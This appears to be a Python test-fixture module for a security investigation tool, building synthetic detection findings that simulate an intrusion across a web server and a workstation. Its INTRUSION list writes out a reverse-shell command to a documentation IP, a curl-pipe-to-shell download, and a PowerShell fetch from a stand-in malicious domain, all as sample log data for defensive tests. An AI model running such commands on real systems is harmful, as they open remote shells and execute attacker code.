"""Make findings for cases: as lines of JSON that a hunt could have written, and as signals."""

from __future__ import annotations

import hashlib
import json
from typing import TYPE_CHECKING, Any

from bartizan.investigate.contract import Signal
from bartizan.investigate.findings import Unread, read_findings
from bartizan.investigate.naming import Names
from bartizan.schema.entities import Entity, EntityKind

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

    from bartizan.investigate.contract import Finding

START = 1_773_727_200_000
"""2026-03-17T06:00:00Z, milliseconds."""
MINUTE = 60_000_000_000


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:32]


def line(rule: str, minute: float, *, level: int = 4, device: str = "", **attributes: object) -> bytes:
    """Make a finding of a rule at a minute.

    ``attributes``: of its record, dotted names with ``__`` for the dot; and ``raw`` its text, ``path`` its file, ``tactic``.
    """
    tactic, path = str(attributes.pop("tactic", "")), str(attributes.pop("path", "logs/x.log"))
    raw = str(attributes.pop("raw", f"{rule} {minute} {device}"))
    matched = attributes.pop("matched", {"CommandLine": raw})
    evidence: dict[str, Any] = {"uid": digest(f"record {rule} {minute} {device} {raw} {sorted(attributes.items())}")}
    for name, value in attributes.items():
        *above, last = name.split("__")
        held = evidence
        for part in above:
            held = held.setdefault(part, {})
        held[last] = value
    evidence["data"] = {"raw_data": raw, "origin": {"path": path, "record": 1}, "matched": matched}
    attacks = [{"tactic": {"name": tactic, "uid": "TA0001"}, "technique": {"uid": "T1190", "name": "Exploit"}}] if tactic else []
    time = START + int(minute * 60_000)
    found: dict[str, Any] = {
        "class_uid": 2004,
        "severity_id": level,
        "confidence_id": 2,
        "time": time,
        "finding_info": {
            "uid": digest(f"finding {evidence['uid']}"),
            "title": f"Rule {rule}",
            "analytic": {"uid": rule},
            "attacks": attacks,
        },
        "metadata": {"product": {"name": "Bartizan", "vendor_name": "Bartizan"}, "log_source": "made"},
        "evidences": [evidence],
    }
    if device:
        found["device"] = {"hostname": device}
    return json.dumps(found, separators=(",", ":")).encode()


def findings(lines: Sequence[bytes], hosts: Sequence[str] = ()) -> list[Finding]:
    """Read lines and resolve their names."""
    found = list(read_findings(lines, "made", Unread()))
    names = Names({*hosts, *(one.entity.value for finding in found for one in finding.named if one.entity.kind is EntityKind.HOST)})
    return [names.resolve(finding) for finding in found]


def signal(name: str, rule: str, hosts: Sequence[str], minute: int, *, bits: float = 8.0) -> Signal:
    time = minute * MINUTE
    entities = tuple(Entity(EntityKind.HOST, host) for host in hosts)
    return Signal(id=name, rule=rule, entities=entities, span=minute // 5, first=time, last=time, count=1, bits=bits, sample=name)


def keep(folder: Path, lines: Sequence[bytes]) -> Path:
    """Write findings as a hunt keeps them."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "findings.ndjson").write_bytes(b"".join(one + b"\n" for one in lines))
    return folder


INTRUSION = [
    line("upload", 0, level=4, path="logs/web-01/access.log", src_endpoint__ip="203.0.113.45", tactic="Initial Access"),
    line("shell", 3, level=5, path="logs/web-01/audit.log", raw="bash -i >& /dev/tcp/203.0.113.45/4444", tactic="Execution"),
    line("fetch", 20, level=4, path="logs/web-01/audit.log", raw="curl http://cdn.bad.example.net/l | sh", tactic="Command and Control"),
    line("macro", 95, level=4, device="ws-1.corp.example.com", raw="powershell http://cdn.bad.example.net/s", actor__user__name="alice"),
    line("dump", 100, level=5, device="ws-1.corp.example.com", actor__user__name="alice", tactic="Credential Access"),
]
"""A web server and a workstation that fetch from one site: one case."""
ELSEWHERE = [line("backup", 300, level=5, device="srv-9.corp.example.com", tactic="Impact")]
HOSTS = ["web-01", "ws-1.corp.example.com", "srv-9.corp.example.com"]
